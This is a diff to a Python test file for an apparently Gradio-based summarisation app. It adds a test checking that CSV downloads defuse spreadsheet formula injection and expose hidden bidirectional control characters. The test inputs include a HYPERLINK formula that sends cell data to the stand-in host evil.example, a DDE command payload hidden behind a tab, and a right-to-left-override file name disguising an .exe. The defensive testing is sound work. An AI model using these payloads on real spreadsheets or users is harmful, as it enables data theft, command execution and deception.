@@ -7,7 +7,10 @@ that requires a key. Uploads and zips go through Gradio's own routes, as the pag
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -307,6 +310,33 @@ def test_an_article_no_model_can_translate_is_an_error_and_the_rest_go_on(
     ]
     [error] = [json.loads(line) for line in errors.splitlines()]
     assert error["id"] == "en" and "opus-mt-en-ar" in error["reason"] and "not available" in error["reason"]
+
+
+SPREADSHEET_HOSTILE = [  # (id, text): cells a spreadsheet would run as formulas, names that hide their end
+    ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Open") is how the article starts. It goes on here.'),
+    ("+cmd", "+SUM(1,2) starts this article about sums. The second sentence is calm."),
+    ("-2+3", "-2+3 is the first thing this article says. Then it says more."),
+    ("@SUM(A1)", "@SUM(A1:A9) opens the text. Nothing else happens in it."),
+    ("tab", "\t=cmd|' /C calc'!A0 hides behind a tab. The article ends here."),
+    ("cr", "\r=1+2 hides behind a carriage return. The article ends here."),
+    ("report\u202etxt.exe", "An article whose id hides its real end. It has two sentences."),
+    ("\u2066x\u2069\u202a\u202b\u202c\u202d", "Isolates and embeddings in the id. Two sentences here."),
+]
+
+
+def test_batch_downloads_run_no_formula_and_show_hidden_bidi_controls(client: httpx.Client) -> None:
+    body = "".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in SPREADSHEET_HOSTILE)
+    files = upload(client, {"hostile.jsonl": body.encode()})
+    status, results = gradio_call(client, "batch", [files, "extractive", 1, "same", "summarize"])
+    assert f"{len(SPREADSHEET_HOSTILE)} of {len(SPREADSHEET_HOSTILE)} articles summarised" in status
+    jsonl, table, errors = (client.get(f"/gradio_api/file={r['path']}").content for r in results)
+    cells = [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"))) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    ids = [row[0] for row in csv.reader(io.StringIO(table.decode("utf-8-sig")))][1:]
+    assert ids[:4] == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)"] and "report<U+202E>txt.exe" in ids
+    assert "<U+2066>x<U+2069><U+202A><U+202B><U+202C><U+202D>" in ids
+    for download in (jsonl, table, errors):
+        assert not re.search("[\u202a-\u202e\u2066-\u2069]", download.decode("utf-8-sig"))
 
 
 # --- keys and limits on every way in ----------------------------------------------------------------
